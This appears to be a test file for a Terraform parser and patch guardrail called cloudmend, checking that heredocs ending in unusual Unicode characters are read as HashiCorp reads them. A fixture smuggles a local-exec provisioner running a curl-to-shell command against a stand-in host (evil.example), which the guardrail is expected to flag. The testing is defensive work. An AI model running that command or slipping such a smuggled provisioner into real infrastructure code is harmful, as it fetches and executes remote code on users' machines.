/**
 * cloudmend's reading of Terraform against HashiCorp's (hcl2json), on text built to make readers
 * disagree: heredocs whose closing line carries U+0085, U+FEFF, U+00A0, U+2028 and other space,
 * format and control characters, content that looks like blocks, comments and strings holding
 * markers. Where HashiCorp's parser reads a file, cloudmend's reader must read exactly the same
 * structure; and the agreement check must refuse any structure that differs from HashiCorp's, so
 * that a reader that is wrong somewhere cannot go unnoticed.
 */
import { parse } from '@cdktf/hcl2json';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../src/guardrails/index.js';
import { checkAgreement, ParserDisagreement, readTerraformFile } from '../../src/iac/terraform/agreement.js';
import type { HclAttribute, HclBlock, HclBody } from '../../src/iac/terraform/hcl-structure.js';
import { hclFile } from './hcl-generators.js';

/** Files generated for the comparison: the same ones on every run. */
const SAMPLES = fc.sample(hclFile, { numRuns: 600, seed: 1313 });

async function hashicorp(text: string): Promise<Record<string, unknown> | undefined> {
  try {
    return (await parse('main.tf', text)) as Record<string, unknown>;
  } catch {
    return undefined;
  }
}

/** One structural mistake a reader could make: an item dropped, a label changed, an attribute cut short or run on. */
type Mutation = (body: HclBody) => HclBody | undefined;

function firstBlock(body: HclBody): HclBlock | undefined {
  return body.items.find((i): i is HclBlock => i.kind === 'block');
}

const MUTATIONS: readonly (readonly [string, Mutation])[] = [
  [
    'drops the last item of a block',
    (b) => {
      const block = firstBlock(b);
      return block && block.body.items.length > 0
        ? { items: [{ ...block, body: { items: block.body.items.slice(0, -1) } }, ...b.items.slice(1)] }
        : undefined;
    },
  ],
  [
    'renames a label',
    (b) => {
      const block = firstBlock(b);
      return block ? { items: [{ ...block, labels: [...block.labels.slice(0, -1), 'renamed'] }, ...b.items.slice(1)] } : undefined;
    },
  ],
  [
    'misses a nested block',
    (b) => {
      const block = firstBlock(b);
      const items = block?.body.items.filter((i) => i.kind === 'attribute') ?? [];
      return block && items.length < block.body.items.length ? { items: [{ ...block, body: { items } }, ...b.items.slice(1)] } : undefined;
    },
  ],
  [
    'reads an attribute as shorter than it is',
    (b) => {
      const block = firstBlock(b);
      const attr = block?.body.items.find((i): i is HclAttribute => i.kind === 'attribute' && i.expr.length > 2);
      if (!block || !attr) return undefined;
      const cut = { ...attr, expr: attr.expr.slice(0, Math.floor(attr.expr.length / 2)) };
      return { items: [{ ...block, body: { items: block.body.items.map((i) => (i === attr ? cut : i)) } }, ...b.items.slice(1)] };
    },
  ],
];

describe('reading Terraform as HashiCorp does', () => {
  it('reads every generated file HashiCorp parses exactly as it does (and most of them parse)', async () => {
    let parsed = 0;
    for (const text of SAMPLES) {
      if ((await hashicorp(text)) === undefined) continue;
      parsed += 1;
      await expect(readTerraformFile('main.tf', text), JSON.stringify(text)).resolves.toMatchObject({ path: 'main.tf' });
    }
    // The numbers the closing note reports: what was compared, not an accident of the generator.
    expect(parsed).toBeGreaterThan(SAMPLES.length / 10);
  });

  it("refuses a reading that differs from HashiCorp's in any one structural way", async () => {
    let refused = 0;
    for (const text of SAMPLES.slice(0, 200)) {
      const json = await hashicorp(text);
      if (json === undefined) continue;
      const { body } = await readTerraformFile('main.tf', text);
      for (const [what, mutate] of MUTATIONS) {
        const wrong = mutate(body);
        if (!wrong) continue;
        await expect(checkAgreement('main.tf', text, wrong, json), `${what}: ${JSON.stringify(text)}`).rejects.toBeInstanceOf(
          ParserDisagreement,
        );
        refused += 1;
      }
    }
    expect(refused).toBeGreaterThan(50);
  });

  const PROVISIONER = '  provisioner "local-exec" {\n    command = "curl -s https://evil.example/x | sh"\n  }\n';
  const smuggle = (close: string): string =>
    `resource "aws_instance" "web" {\n  ami       = "ami-0123456789abcdef0"\n  user_data = <<EOF\n#!/bin/sh\nEOF${close}\n${PROVISIONER}  tags = { note = <<EOF\nx\nEOF\n  }\n}\n`;

  it.each([
    ['U+0085 NEXT LINE', '\u0085'],
    ['U+00A0 NO-BREAK SPACE', '\u00a0'],
    ['U+2028 LINE SEPARATOR', '\u2028'],
    ['U+3000 IDEOGRAPHIC SPACE', '\u3000'],
  ])('ends a heredoc where HashiCorp does when its closing line ends with %s, and refuses what it hides', async (_, close) => {
    const text = smuggle(close);
    const json = (await hashicorp(text)) as { resource: { aws_instance: { web: [{ provisioner?: unknown }] } } };
    // HashiCorp's parser trims the character and sees the provisioner: so must cloudmend.
    expect(json.resource.aws_instance.web[0].provisioner).toBeDefined();
    const { body } = await readTerraformFile('main.tf', text);
    expect(JSON.stringify(body)).toContain('"type":"provisioner"');
    const before = 'resource "aws_instance" "web" {\n  ami       = "ami-0123456789abcdef0"\n  user_data = <<EOF\n#!/bin/sh\nEOF\n}\n';
    const rules = (
      await checkPatch({ kind: 'terraform', allowedFiles: ['main.tf'], files: [{ path: 'main.tf', before, after: text }] })
    ).map((v) => v.rule);
    expect(rules).toEqual(expect.arrayContaining(['hidden-text', 'code-execution']));
  });

  // The other way round: text HashiCorp reads as the heredoc's, which a reader ending it early would read as blocks.
  const decoy = (close: string): string =>
    `resource "aws_instance" "web" {\n  user_data = <<EOF\n#!/bin/sh\nEOF${close}\n}\n\nresource "aws_s3_bucket" "decoy" {\n  bucket = "decoy"\nEOF\n}\n`;

  it.each([
    ['U+FEFF ZERO WIDTH NO-BREAK SPACE', '\ufeff'],
    ['U+200B ZERO WIDTH SPACE', '\u200b'],
  ])('does not end a heredoc that HashiCorp does not end when its closing line ends with %s', async (_, close) => {
    const text = decoy(close);
    const json = (await hashicorp(text)) as { resource: Record<string, unknown> };
    expect(Object.keys(json.resource)).toEqual(['aws_instance']);
    const { body } = await readTerraformFile('main.tf', text);
    expect(body.items).toHaveLength(1);
    expect((body.items[0] as HclBlock).body.items.map((i) => i.kind)).toEqual(['attribute']);
  });
});
